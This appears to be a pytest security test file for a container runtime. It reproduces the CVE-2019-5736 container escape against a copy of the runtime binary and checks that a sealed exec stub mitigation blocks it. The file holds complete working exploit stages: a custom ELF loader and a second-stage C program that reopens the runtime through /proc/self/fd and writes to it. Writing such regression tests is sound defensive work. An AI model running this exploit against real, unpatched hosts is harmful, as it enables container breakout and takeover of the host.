"""CVE-2019-5736: a container overwriting the host's runtime binary through
/proc/self/exe or /proc/<pid>/exe.

The image carries:
- /bin/evil, a script whose interpreter is "#!/proc/self/exe": executed by a
  process whose /proc/self/exe is still the runtime, it makes the kernel run
  the runtime's binary inside the container;
- its own ELF loader at /lib64/ld-linux-x86-64.so.2, which the kernel then
  uses for that binary: it opens /proc/self/exe with O_PATH and executes
  /evil2 with that fd;
- /evil2, which waits until the binary is no longer being executed, reopens
  it for writing through /proc/self/fd/N and appends to it.

Each test attacks a copy of the runtime (never the installed one) and checks
that the copy is unchanged and that /evil2 never got to write. Without the
sealed exec stub (ocirt.linux.execstub) the copy is written every time.
"""
import hashlib
import os
import platform
import select
import shutil
import subprocess

import pytest

from tests.security.conftest import bind, read_fifo

pytestmark = pytest.mark.skipif(platform.machine() != "x86_64",
                                reason="the evil ELF loader is written for x86_64")

# The loader: no libc, position independent (the runtime is loaded at its
# fixed address, the loader anywhere else).
EVIL_LOADER = r"""
static long sys3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
__asm__(".text\n.global _start\n_start:\n xor %rbp, %rbp\n mov %rsp, %rdi\n"
        " and $-16, %rsp\n call evil_main\n hlt\n");
__attribute__((used)) void evil_main(long *sp)
{
    long argc = sp[0];
    char **envp = (char **)(sp + 1) + argc + 1;
    char num[8], *argv[3];
    long fd = sys3(2, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
    int i = 0;
    if (fd < 0 || fd > 999)
        sys3(231, 98, 0, 0);
    if (fd >= 100) num[i++] = '0' + fd / 100;
    if (fd >= 10) num[i++] = '0' + fd / 10 % 10;
    num[i++] = '0' + fd % 10;
    num[i] = 0;
    argv[0] = "/evil2";
    argv[1] = num;
    argv[2] = 0;
    sys3(59, (long)"/evil2", (long)argv, (long)envp);
    sys3(231, 99, 0, 0);
}
"""

# The second stage: argv[1] is an fd number (from the loader) or a path to
# open with O_PATH first (/proc/1/exe); then it says how that open went on
# /shared/fifo. It tries to reopen the file for writing until it is no
# longer busy, and writes the outcome to /shared/result.
EVIL2 = r"""#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
    char path[64];
    int fd, i;
    FILE *fifo = NULL, *out;
    if (argc < 2)
        return 3;
    if (argv[1][0] == '/') {
        fifo = fopen("/shared/fifo", "w");
        fd = open(argv[1], O_PATH);
        if (fd < 0) {
            if (fifo) { fprintf(fifo, "open %s: %s\n", argv[1], strerror(errno)); fclose(fifo); }
            return 4;
        }
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    } else {
        snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    }
    if (fifo) { fprintf(fifo, "holding\n"); fclose(fifo); }
    out = fopen("/shared/result", "w");
    for (i = 0; i < 1000; i++) {
        fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) {
            write(fd, "PWNED", 5);
            fprintf(out, "wrote the runtime\n");
            return 0;
        }
        if (errno != ETXTBSY) {
            fprintf(out, "reopen: %s\n", strerror(errno));
            return 1;
        }
        usleep(10000);
    }
    fprintf(out, "still busy\n");
    return 2;
}
"""


def _compile(tmp, name, source, flags):
    src = tmp / f"{name}.c"
    src.write_text(source)
    out = tmp / name
    subprocess.run(["gcc", "-O1", *flags, "-o", str(out), str(src)], check=True,
                   capture_output=True)
    return out


@pytest.fixture
def evil_rootfs(rootfs, public_tmp):
    """A writable copy of the busybox rootfs with the attacker's three files."""
    build = public_tmp / "build"
    build.mkdir()
    root = public_tmp / "evilroot"
    shutil.copytree(rootfs, root, symlinks=True)
    (root / "lib64").mkdir()
    shutil.copy(_compile(build, "loader", EVIL_LOADER,
                         ["-static-pie", "-fPIE", "-nostdlib", "-ffreestanding",
                          "-fno-stack-protector"]),
                root / "lib64" / "ld-linux-x86-64.so.2")
    shutil.copy(_compile(build, "evil2", EVIL2, ["-static"]), root / "evil2")
    (root / "bin" / "evil").write_text("#!/proc/self/exe\n")
    os.chmod(root / "bin" / "evil", 0o755)
    return root


@pytest.fixture
def shared(public_tmp):
    d = public_tmp / "shared"
    d.mkdir()
    os.mkfifo(d / "fifo")
    return d


@pytest.fixture
def runtime_copy(rt, tmp_path):
    """rt runs a copy of the runtime: the one under attack."""
    copy = tmp_path / "ocirt-under-attack"
    shutil.copy2(rt.bin, copy)
    rt.bin = str(copy)
    return copy


def _digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _edit(evil_rootfs, shared):
    def edit(cfg):
        cfg["root"] = {"path": str(evil_rootfs), "readonly": False}
        bind(cfg, shared, "/shared")
    return edit


def _wait_exit(pid, timeout=30):
    fd = os.pidfd_open(pid)
    try:
        ready, _, _ = select.select([fd], [], [], timeout)
        assert ready, f"pid {pid} still runs after {timeout}s"
    finally:
        os.close(fd)


def _result(shared):
    p = shared / "result"
    return p.read_text() if p.exists() else ""


def test_process_args_through_proc_self_exe(rt, evil_rootfs, shared, runtime_copy):
    """The container's own process is the script: the init executes it."""
    before = _digest(runtime_copy)
    cid = rt.new_id()
    rt("create", "--bundle", rt.bundle(["/bin/evil"], _edit(evil_rootfs, shared)), cid,
       check=True)
    pid = rt.state(cid)["pid"]
    rt("start", cid, check=True)
    _wait_exit(pid)
    assert _digest(runtime_copy) == before
    assert "wrote" not in _result(shared)
    assert rt.state(cid)["status"] == "stopped"


def test_exec_through_proc_self_exe(rt, evil_rootfs, shared, runtime_copy, tmp_path):
    """`ocirt exec` of the script in a running container."""
    before = _digest(runtime_copy)
    cid = rt.running(["sleep", "1000"], _edit(evil_rootfs, shared))
    pid_file = tmp_path / "evil.pid"
    rt("exec", "--detach", "--pid-file", pid_file, cid, "/bin/evil", check=True)
    _wait_exit(int(pid_file.read_text()))
    assert _digest(runtime_copy) == before
    assert "wrote" not in _result(shared)


def test_waiting_init_exe_is_out_of_reach(rt, evil_rootfs, shared, runtime_copy, tmp_path):
    """While the init waits for start, /proc/1/exe is the runtime: a process
    exec'd into the created container may not even open it (the init is not
    dumpable), so it has nothing to write through once the init has gone on."""
    before = _digest(runtime_copy)
    cid = rt.created(["sleep", "1000"], _edit(evil_rootfs, shared))
    pid_file = tmp_path / "evil.pid"
    rt("exec", "--detach", "--pid-file", pid_file, cid, "/evil2", "/proc/1/exe", check=True)
    said = read_fifo(shared / "fifo")
    rt("start", cid, check=True)
    _wait_exit(int(pid_file.read_text()))
    assert _digest(runtime_copy) == before
    assert "wrote" not in _result(shared)
    assert said.startswith("open /proc/1/exe: Permission denied"), said


@pytest.mark.parametrize("refused", [["memfd_create"], ["execveat"], ["memfd_create", "execveat"]])
@pytest.mark.parametrize("nnp", [False, True])
def test_the_stub_works_under_a_profile_that_refuses_its_syscalls(rt, refused, nnp):
    """memfd_create is made before any filter loads; a profile refusing
    execveat gets the stub through execve of /proc/self/fd/N."""
    def edit(cfg):
        cfg["process"]["noNewPrivileges"] = nnp
        cfg["linux"]["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW",
                                   "syscalls": [{"names": refused, "action": "SCMP_ACT_ERRNO"}]}
    p = rt.run(["sh", "-c", "echo ran"], edit)
    assert (p.returncode, p.stdout) == (0, "ran\n"), p.stderr
    cid = rt.running(edit=edit)
    p = rt("exec", cid, "sh", "-c", "echo ran")
    assert (p.returncode, p.stdout) == (0, "ran\n"), p.stderr


def test_a_failed_execve_is_reported_through_the_stub(rt, public_tmp):
    """The stub executes the program; when that fails (here: no known
    format), run, start (waiting for the exec: poststart hooks) and exec say
    what failed, in one line."""
    from tests.security.conftest import one_line_error
    root = public_tmp / "rootfs"
    shutil.copytree(rt.rootfs, root, symlinks=True)
    (root / "bad").write_text("garbage\n")
    os.chmod(root / "bad", 0o755)

    def edit(cfg, hooks=False):
        cfg["root"] = {"path": str(root), "readonly": True}
        if hooks:
            cfg["hooks"] = {"poststart": [{"path": "/bin/true"}]}
    want = "exec /bad: exec format error"
    one_line_error(rt.run(["/bad"], edit), want)
    cid = rt.created(["/bad"], lambda cfg: edit(cfg, hooks=True))
    one_line_error(rt("start", cid), want)
    cid = rt.running(["sleep", "1000"], edit)
    one_line_error(rt("exec", cid, "/bad"), want)
    one_line_error(rt("exec", "--detach", cid, "/bad"), want)
    assert rt.state(cid)["status"] == "running"
